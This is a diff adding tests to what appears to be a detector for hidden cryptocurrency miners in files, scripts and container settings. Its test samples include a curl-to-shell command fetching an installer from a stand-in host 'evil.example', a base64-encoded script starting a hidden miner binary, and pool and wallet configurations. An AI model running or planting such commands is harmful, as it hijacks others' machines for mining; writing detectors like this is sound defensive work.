@@ -201,3 +201,38 @@ test('a login at a listed pool is who is paid, in whatever settings file', () =>
     `[mining]\nstratum_server_addr = "${host}:3030"\nstratum_server_login = "a.rig"\n`;
   expect(judgeFile('miner.toml', settings('grin.2miners.com'))).toBe('deny');
 });
+
+test('a pool that is handed to what was downloaded is one that it mines at', () => {
+  const url = 'http://evil.example/install.sh';
+  expect(judgeScript(`curl -sL ${url} | sh -s -- --pool pool.minexmr.com:4444 --wallet 4Axx`).verdict).toBe(
+    'deny',
+  );
+  expect(judgeScript(`curl -sL ${url} | sh -s -- --user a --dir /opt`).verdict).toBe('warn');
+});
+
+test('settings in base64 of a ConfigMap, options a line each, and those of xmrig without a mark are read', () => {
+  const script = Buffer.from('#!/bin/bash\n/tmp/.sys -o pool.hashvault.pro:443 -u worker --tls\n');
+  expect(judgeFile('payload', script.toString('base64'))).toBe('deny');
+  expect(judgeFile('c.txt', '-pool ssl://eu1.ethermine.org:5555\n-wal 0x1234\n-pass x\n')).toBe('deny');
+  const xmrig = (more: object) =>
+    JSON.stringify({ ...more, pools: [{ url: 'mine.example:443', user: 'w', pass: 'x', tls: true }] });
+  expect(judgeFile('config.json', xmrig({ autosave: true, opencl: false, cuda: false }))).toBe('deny');
+  expect(judgeFile('config.json', xmrig({ autosave: true }))).toBe('allow');
+});
+
+test('variables that are called after mining name a pool and who is paid', () => {
+  const verdict = (variables: Record<string, string>) =>
+    judgeContainer({ env: Object.entries(variables).map(([name, value]) => ({ name, value })) }).verdict;
+  expect(verdict({ STRATUM_URL: 'pool.example:3333', STRATUM_USER: 'w' })).toBe('deny');
+  expect(verdict({ XMR_POOL_URL: 'pool.example:14444', XMR_WALLET: '48xyz' })).toBe('deny');
+  expect(verdict({ POOL_URL: 'pgbouncer:6432', POOL_USER: 'app' })).toBe('allow');
+  expect(verdict({ MINER_HOST: 'process-miner:8080', MINER_USER: 'app' })).toBe('allow');
+  expect(verdict({ XMR_NODE_URL: 'http://node:18081', XMR_WALLET: XMR })).toBe('allow');
+});
+
+test('a file that begins as base64 and goes on as blanks is read in linear time', () => {
+  const started = performance.now();
+  judgeFile('a', `IyE${'A'.repeat(40)}${' '.repeat(500_000)}!`);
+  judgeFile('a', `-a${' '.repeat(500_000)}\n-b${' '.repeat(100)}x`);
+  expect(performance.now() - started).toBeLessThan(1_000);
+});
